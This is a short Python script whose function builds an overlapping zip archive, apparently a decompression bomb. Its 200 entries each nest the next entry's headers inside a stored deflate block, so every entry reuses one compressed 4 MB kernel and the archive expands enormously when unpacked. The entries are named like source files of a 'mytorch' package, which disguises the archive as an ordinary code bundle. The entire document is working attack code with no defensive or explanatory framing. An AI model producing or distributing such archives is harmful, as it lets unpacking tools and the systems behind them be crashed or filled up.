"""A zip whose entries each hold the next one, headers and all, stored in a deflate block.

Into: an archive of its own
"""

import struct
import zlib


def make():
    size = 4_000_000
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = packed.compress(bytes(size)) + packed.flush()
    files, rest, data = [], kernel, bytes(size)
    for number in reversed(range(200)):
        name = b"mytorch/%04d.py" % number
        fields = (20, 0, 8, 0, 0, zlib.crc32(data), len(rest), len(data), len(name), 0)
        local = struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields) + name
        files.append((fields, name, len(rest)))
        quoted = struct.pack("<BHH", 0, len(local), len(local) ^ 0xFFFF) + local
        rest, data, whole = quoted + rest, local + data, local + rest
    entries = b""
    for fields, name, length in reversed(files):
        place = len(whole) - length - 30 - len(name)
        entries += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *fields, 0, 0, 0, 0, place) + name
    ending = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 200, 200, len(entries), len(whole), 0)
    return whole + entries + ending
